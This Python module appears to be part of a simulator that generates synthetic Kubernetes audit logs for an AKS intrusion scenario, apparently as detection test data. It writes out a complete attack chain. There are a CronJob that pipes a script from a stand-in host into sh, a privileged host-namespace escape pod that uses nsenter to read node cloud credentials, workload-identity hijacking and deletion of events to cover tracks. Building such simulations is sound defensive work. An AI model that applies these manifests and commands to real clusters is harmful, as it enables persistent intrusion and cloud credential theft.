"""The certificate backdoor: the operator back with its minted client certificate."""

from __future__ import annotations

import datetime as dt
from typing import Any
from urllib.parse import quote

from pytest_ctirealm.telemetry import environment as env
from pytest_ctirealm.telemetry.benign import aks as k8s
from pytest_ctirealm.telemetry.context import SimContext
from pytest_ctirealm.telemetry.scenarios.aks.common import (
    AUDIT,
    BACKEND,
    FRONTEND,
    KUBECTL_CREATE,
    Intrusion,
    created,
    external,
)
from pytest_ctirealm.telemetry.scenarios.base import Stages, incident_start, scenario

#: The operator's kubectl (a release Contoso's engineers do not use) and its two VPSs.
ATTACKER_KUBECTL = "kubectl/v1.28.2 (linux/amd64) kubernetes/89a4ea3"
KUBECONFIG_IP = "203.0.113.77"
RETURN_IP = "203.0.113.140"
STAGER_URL = f"http://{RETURN_IP}:8443/k.sh"
#: The client certificate's user name (its CN) and the backdoor RBAC objects.
CERT_USER = "kube-health-monitor"


def _certificate_user() -> k8s._Who:
    """The client certificate the operator had signed, cluster-admin by its own binding."""
    return external(
        CERT_USER,
        ("system:authenticated",),
        ATTACKER_KUBECTL,
        RETURN_IP,
        k8s._rbac(CERT_USER, "cluster-admin", "User", CERT_USER),
    )


def _kubeconfig_start(ctx: SimContext) -> dt.datetime:
    """The stolen kubeconfig is used at night in Europe (the operator's working day)."""
    return incident_start(ctx, "aks-kubeconfig", (1, 4))


# --------------------------------------------------------------------------- certificate backdoor


@scenario(
    "aks_certificate_backdoor",
    "aks",
    (
        "cert_discovery",
        "secret_reads",
        "cronjob",
        "cronjob_runs",
        "escape_pod",
        "escape_pod_start",
        "escape_exec",
        "sa_tamper",
        "events_deleted",
        "cleanup",
    ),
)
def aks_certificate_backdoor(ctx: SimContext) -> Stages:
    """Hours later the operator returns with the certificate: reads secrets one by one,
    plants a CronJob stager, takes over a node through a privileged pod, hijacks the
    api workload identity for a while, then deletes the pod and its events."""
    start = _kubeconfig_start(ctx) + dt.timedelta(
        hours=ctx.rng("scenario", "aks-return").uniform(3, 6)
    )
    t = Intrusion(ctx, "aks_certificate_backdoor", start)
    who = _certificate_user()
    t.emit("cert_discovery", who, "get", "/api?timeout=32s")
    t.emit("cert_discovery", who, "get", "/apis?timeout=32s", after=0.1)
    t.emit("cert_discovery", who, "list", "/api/v1/pods?limit=500", after=15)
    t.emit("cert_discovery", who, "list", "/apis/apps/v1/deployments?limit=500", after=20)
    for namespace, secret in (
        ("kube-system", "kube-health-crac-token"),
        ("api", BACKEND.secret),
        ("web", FRONTEND.secret),
        ("kube-system", "ama-logs-secret"),
    ):
        t.emit(
            "secret_reads", who, "get", f"/api/v1/namespaces/{namespace}/secrets/{secret}", after=40
        )
    _cronjob(t, who)
    pod = _escape_pod(t, who)
    _hijack_workload_identity(t, who)
    _cover_tracks(t, who, pod)
    return t.stages


def _cronjob(t: Intrusion, who: k8s._Who) -> None:
    """A CronJob in kube-system that fetches and runs a script every 30 minutes."""
    name = "kube-health-sync"
    image = "docker.io/curlimages/curl:8.5.0"
    command = ["/bin/sh", "-c", f"curl -fsSL {STAGER_URL} | sh"]
    cronjob = {
        "apiVersion": "batch/v1",
        "kind": "CronJob",
        "metadata": {"name": name, "namespace": "kube-system"},
        "spec": {
            "schedule": "*/30 * * * *",
            "successfulJobsHistoryLimit": 0,
            "failedJobsHistoryLimit": 0,
            "jobTemplate": {
                "spec": {
                    "template": {
                        "spec": {
                            "serviceAccountName": "default",
                            "restartPolicy": "OnFailure",
                            "containers": [{"name": "sync", "image": image, "command": command}],
                        }
                    }
                }
            },
        },
    }
    t.wait(60, 240)
    t.emit(
        "cronjob",
        who,
        "create",
        f"/apis/batch/v1/namespaces/kube-system/cronjobs?{KUBECTL_CREATE}",
        request=cronjob,
        response=created(cronjob, t.now),
        code=201,
        name=name,
    )
    resume = t.now
    shape = k8s._PodShape("default", image, tuple(command), container="sync")
    first = t.now.replace(minute=0 if t.now.minute < 30 else 30, second=0, microsecond=0)
    for run in (1, 2):
        t.now = first + dt.timedelta(minutes=30 * run, milliseconds=t.rng.uniform(20, 400))
        _cronjob_run(t, name, shape)
    t.now = resume


def _cronjob_run(t: Intrusion, name: str, shape: k8s._PodShape) -> None:
    """The controllers run the CronJob: a Job, then its pod."""
    scheduled = t.now.replace(second=0, microsecond=0)
    job_name = f"{name}-{int(scheduled.timestamp() // 60)}"
    job = {
        "kind": "Job",
        "apiVersion": "batch/v1",
        "metadata": k8s._meta(
            job_name,
            "kube-system",
            labels={"cronjob": name},
            ownerReferences=k8s._owner("CronJob", name, "batch/v1"),
        ),
        "spec": {
            "template": {
                "spec": {
                    "containers": [
                        {"name": "sync", "image": shape.image, "command": list(shape.command)}
                    ],
                    "restartPolicy": "OnFailure",
                    "serviceAccountName": "default",
                }
            }
        },
    }
    t.emit(
        "cronjob_runs",
        k8s._CALLERS["ctrl:cronjob-controller"][0],
        "create",
        "/apis/batch/v1/namespaces/kube-system/jobs",
        request=job,
        response=created(job, t.now),
        code=201,
        name=job_name,
    )
    pod = f"{job_name}-{k8s._suffix(5, str(t.ctx.seed), job_name)}"
    t.day().create_pod(
        k8s._CALLERS["ctrl:job-controller"][0],
        shape,
        pod,
        "kube-system",
        k8s._pod_node(pod),
        k8s._owner("Job", job_name, "batch/v1"),
        {"job-name": job_name},
        t.now + dt.timedelta(seconds=0.2),
    )
    t.file("cronjob_runs")


def _escape_pod(t: Intrusion, who: k8s._Who) -> dict[str, Any]:
    """A bare pod on node 0 with the host's namespaces and root filesystem; then a shell on
    the node through it, and the node's cloud credentials read."""
    node = 0
    name = "kube-health-check"
    pod: dict[str, Any] = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": name, "namespace": "kube-system"},
        "spec": {
            "nodeName": k8s._NODES[node],
            "hostPID": True,
            "hostNetwork": True,
            "hostIPC": True,
            "tolerations": [{"operator": "Exists"}],
            "containers": [
                {
                    "name": "check",
                    "image": "docker.io/library/alpine:3.19",
                    "command": ["sleep", "infinity"],
                    "securityContext": {"privileged": True},
                    "volumeMounts": [{"name": "host", "mountPath": "/host"}],
                }
            ],
            "volumes": [{"name": "host", "hostPath": {"path": "/", "type": ""}}],
        },
    }
    t.wait(120, 600)
    t.emit(
        "escape_pod",
        who,
        "create",
        f"/api/v1/namespaces/kube-system/pods?{KUBECTL_CREATE}",
        request=pod,
        response=created(pod, t.now),
        code=201,
        name=name,
        notes={"pod-security.kubernetes.io/enforce-policy": "privileged:latest"},
    )
    t.pod_start("escape_pod_start", pod, node)
    core = f"/api/v1/namespaces/kube-system/pods/{name}"
    t.emit("escape_pod_start", who, "get", core, after=20)
    for command, interactive in (
        (("nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "bash"), True),
        (("cat", "/host/etc/kubernetes/azure.json"), False),
    ):
        params = "&".join(f"command={quote(part, safe='')}" for part in command)
        flags = "&stdin=true&stdout=true&tty=true" if interactive else "&stderr=true&stdout=true"
        t.emit(
            "escape_exec",
            who,
            "create",
            f"{core}/exec?{params}&container=check{flags}",
            after=30,
            code=101,
            stage="ResponseStarted",
        )
    return pod


def _hijack_workload_identity(t: Intrusion, who: k8s._Who) -> None:
    """Point the api service account at the backup job's managed identity, use it a few
    minutes, then point it back."""
    for identity in ("id-func-backup", "id-api-prod"):
        annotations = {"azure.workload.identity/client-id": env.application(identity).app_id}
        account = {
            "kind": "ServiceAccount",
            "apiVersion": "v1",
            "metadata": k8s._meta(BACKEND.name, BACKEND.namespace, annotations=annotations),
        }
        t.wait(120, 420)
        t.emit(
            "sa_tamper",
            who,
            "patch",
            f"/api/v1/namespaces/{BACKEND.namespace}/serviceaccounts/{BACKEND.name}"
            "?fieldManager=kubectl-annotate",
            request={"metadata": {"annotations": annotations}},
            response=k8s._stored(account, t.now),
        )


def _cover_tracks(t: Intrusion, who: k8s._Who, pod: dict[str, Any]) -> None:
    """The escape pod's events and the CronJob's events deleted, then the pod itself."""
    name = pod["metadata"]["name"]
    events = [
        row["ObjectRef"]["name"]
        for row in t.stages["escape_pod_start"][AUDIT]
        if row["ObjectRef"]["resource"] == "events"
    ]
    t.wait(60, 240)
    for event in events:
        t.emit(
            "events_deleted",
            who,
            "delete",
            f"/api/v1/namespaces/kube-system/events/{event}",
            after=4,
            request=k8s._delete_options(),
            response=k8s._deleted("events", event),
        )
    selector = quote("involvedObject.name=kube-health-sync", safe="")
    t.emit(
        "events_deleted",
        who,
        "deletecollection",
        f"/api/v1/namespaces/kube-system/events?fieldSelector={selector}",
        after=20,
        request=k8s._delete_options(),
    )
    options = {**k8s._delete_options(), "gracePeriodSeconds": 0}
    t.emit(
        "cleanup",
        who,
        "delete",
        f"/api/v1/namespaces/kube-system/pods/{name}",
        after=30,
        request=options,
        response=k8s._deleted("pods", name),
    )
